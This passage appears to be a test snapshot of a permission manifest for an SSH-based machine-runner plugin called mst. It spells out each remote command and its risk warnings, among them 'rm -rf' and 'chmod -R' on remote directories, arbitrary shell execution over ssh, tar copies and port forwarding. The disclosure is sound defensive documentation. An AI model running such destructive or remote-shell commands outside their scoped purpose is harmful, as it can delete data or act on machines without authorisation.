      clients, and then goes on: mst writes to its stdin, the values of the eval's
      tokens (credentials that it names) among it, and has all that it says; the
      plugin reads nothing of it, stderr included. mst puts no token, secret, prompt
      or answer into an argument.
      Of each of them:
          ! logs in on another machine, with your keys: `ssh`
          ! gets your SSH agent: may log in wherever your keys do
          ! its program is told of files of yours, and may read and change them: in
            your options `identity`, `known_hosts`
          ! a shell on the other machine reads the arguments: `ssh`
          ! goes by your own configuration of `ssh`, which may name further programs
            and hosts
          ! gets of your environment: `SSH_AUTH_SOCK`
      Of several:
          ! a shell on the other machine runs the script that stands here
            (exec:create, exec:destroy, exec:list, exec:copy-to, exec:copy-from)
          ! a part of a shell's text, as far as their schemas admit it: your options
            `base` (exec:create, exec:destroy, exec:list, exec:copy-to,
            exec:copy-from)
      Where nothing else is said, the plugin reads 1 MiB of stdout and of stderr.
      In their lines:
          <shared>         stands for `-oBatchMode=yes -oStrictHostKeyChecking=yes \
                           -oUpdateHostKeys=no -oForwardAgent=no -oForwardX11=no \
                           -oControlMaster=no -oControlPath=none \
                           -oConnectTimeout=15 -oServerAliveInterval=15 \
                           [-p{option(port)}] [-l{option(user)}] \
                           [-i{option(identity)}] \
                           [-oUserKnownHostsFile={option(known_hosts)}] -- \
                           {option(host)}`
          {x:type}         the plugin fills it, within its type
          uint(a..b)       a whole number, from a to b
          machine-path     an absolute path (`/` too) without `..`, of letters,
                           digits and `_.-+=,@%`, put behind what stands before it.
                           It confines nothing: a link there leads anywhere
          {option(x)}      you fill it (`--runner-option`), by the option x
          {machine}        mst fills it: its own name for a machine of this run, of
                           a-z, 0-9 and `-`. It has none removed that it did not
                           name
          {run}            mst fills it: the run's name, of the same letters
          {command:shell}  mst fills it, for a shell: what mst runs on the machine
          {x:host-dir}     mst fills it: what goes to a machine, or an empty
                           directory for what comes back, which mst checks, links
                           too, before it uses it. Stdout goes nowhere
          [...]            left out where its slot is empty
          '...'            one argument, quoted as for a POSIX shell
          {{ }}            one brace each
          \                ends a line that the page breaks: neither it nor the
                           blanks which begin the next are in the command

    Asks for, each by the plugin's name for it
      exec:create (at most 1m)
          ssh -T -oClearAllForwardings=yes <shared> 'umask 077 && mkdir -p \
              {option(base)} && mkdir {option(base)}/{machine} \
              {option(base)}/{machine}/run-{run} && cd {option(base)}/{machine} && \
              pwd -P'
      exec:destroy (at most 5m)
          ssh -T -oClearAllForwardings=yes <shared> 'chmod -R u+rwx \
              {option(base)}/{machine} 2>/dev/null; exec rm -rf \
              {option(base)}/{machine}'
          ! removes whole directories on the other machine: `rm`
          ! changes or removes files on the other machine: `chmod`
      exec:list (at most 1m)
          ssh -T -oClearAllForwardings=yes <shared> 'test -e {option(base)} || \
              exit 0; cd {option(base)} || exit; for mark in */run-{run}; do [ ! \
              -d "$mark" ] || echo "${{mark%/*}}"; done'
      exec:exec (at most 7 days; the plugin reads nothing of it, and mst all)
          ssh -T -oClearAllForwardings=yes <shared> 'exec {command:shell}'
          ! the clients run on the host that it logs in to (it may be this one),
            with all that this account may do
      exec:copy-to (at most 1h; the plugin reads how it ended, and 2 KiB of stderr)
          /bin/sh -c 'from=$1; shift; {{ tar -C "$from" -cf - . && : >sent; }} | \
              "$@" && [ -e sent ]' sh {source:host-dir} ssh -T \
              -oClearAllForwardings=yes <shared> \
              'd={option(base)}/{machine}{target:machine-path}; mkdir -p $d && \
              exec tar -C $d -xopf -'
          ! a fixed script that runs its arguments, some of them the plugin's
          ! changes or removes files on the other machine: `tar`
      exec:copy-from (at most 1h; the plugin reads how it ended, and 2 KiB of
        stderr)
          /bin/sh -c 'to=$1; shift; {{ "$@" && : >sent; }} | tar -C "$to" -xopf - \
              && [ -e sent ]' sh {target:host-dir} ssh -T \
              -oClearAllForwardings=yes <shared> 'exec tar -C \
              {option(base)}/{machine}{source:machine-path} -cf - .'
          ! a fixed script that runs its arguments, some of them the plugin's
          ! changes or removes files where its arguments say: `tar`
      exec:forward-port (at most 7 days)
          ssh -T -N -oExitOnForwardFailure=yes \
              -L127.0.0.1:{local:uint(1..65535)}:127.0.0.1:{remote:uint(1..65535)} \
              <shared>
          ! leads ports of the plugin's choice between here and there: `-L`

    Options
      base: string, matching `^[A-Za-z0-9._/][A-Za-z0-9._/-]*$`, required
          "A directory there, made where it is missing; in the user's home where it
          does not begin with `/`, as `.mst`. Each machine is a directory in it."
      host: string, matching `^[A-Za-z0-9_:][A-Za-z0-9._:-]*$`, required
          "Where the machines are: a name, an address, or a `Host` of your
          `~/.ssh/config`. It needs a POSIX shell and `tar`."
      identity: string, a path on this machine, matching `^[^%"\s]*$`
          "A file with a private key. Without it ssh asks your agent, and takes the
          keys that it finds."
      known_hosts: string, a path on this machine, matching `^[^%"\s]*$`
          "A file with the host's key. A key that is not known is refused, and never
          added."
      port: integer, 1 to 65535
      user: string, matching `^[A-Za-z0-9_][A-Za-z0-9._-]*$`

    Imports: what it can call; each call is held to what is granted above
      mst:plugin/log@0.1.0: write, progress
      mst:plugin/process@0.1.0: child.kill, run, start
      for their types alone: mst:plugin@0.1.0 types, commands

    Exports: what mst calls
      mst:plugin/machine@0.1.0: create-machine, destroy-machine, list-machines
      mst:plugin/channel@0.1.0: run-command, copy-to, copy-from, forward-port (mst
          never calls it)
    "#);
}
